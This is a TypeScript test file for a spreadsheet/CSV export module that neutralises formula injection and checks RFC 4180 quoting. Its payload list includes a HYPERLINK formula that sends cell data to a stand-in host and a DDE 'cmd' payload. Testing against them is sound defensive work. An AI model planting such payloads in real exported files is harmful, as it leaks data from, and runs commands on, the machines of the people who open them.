import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { looksLikeFormula, neutraliseCell } from './cells';
import { csvField, toCsv } from './csv';

const FORMULA_PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+cmd|\' /C calc\'!A0', '-1+1', '@SUM(1,2)', '\t=1', 'a\n=1', '\r=1', ' =1', 'ok\r\n+1', 'x\n\t@SUM(A1)'];

describe('spreadsheet cells', () => {
  it('neutralises every OWASP formula start, also after a line break inside the cell', () => {
    for (const payload of FORMULA_PAYLOADS) {
      expect(looksLikeFormula(payload), payload).toBe(true);
      const safe = neutraliseCell(payload);
      expect(looksLikeFormula(safe), safe).toBe(false);
      expect(safe.replace(/'/g, '')).toBe(payload.replace(/'/g, ''));
    }
    expect(neutraliseCell('=1')).toBe("'=1");
    expect(neutraliseCell('a\n=1')).toBe("a\n'=1");
    expect(neutraliseCell('\t=1')).toBe("'\t=1");
  });

  it('leaves ordinary text alone', () => {
    for (const text of ['Acme Corp', 'Zoë Łukasiewicz', 'a - b', 'Total = 3', 'e-mail', "O'Brien", '-28', '+3.5']) expect(neutraliseCell(text)).toBe(text);
    expect(neutraliseCell('-28+1')).toBe("'-28+1");
  });

  it('never lets any text through as a formula', () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ' ', 'a', '1', "'", '"') }), (text) => !looksLikeFormula(neutraliseCell(text))),
      { numRuns: 2000 },
    );
  });

  it('writes CSV with a BOM, CRLF, RFC 4180 quoting, numbers as numbers', () => {
    expect(csvField(-12)).toBe('-12');
    expect(csvField(null)).toBe('');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('a\n=1')).toBe('"a\n\'=1"');
    expect(csvField('=1+1')).toBe("'=1+1");
    const csv = toCsv({ name: 'T', columns: [{ header: 'Name', kind: 'text', width: 10 }, { header: 'Value', kind: 'money', width: 10 }], rows: [['Zoë', 1200], ['@SUM(1)', null]] });
    expect(csv).toBe("\ufeffName,Value\r\nZoë,1200\r\n'@SUM(1),\r\n");
  });
});
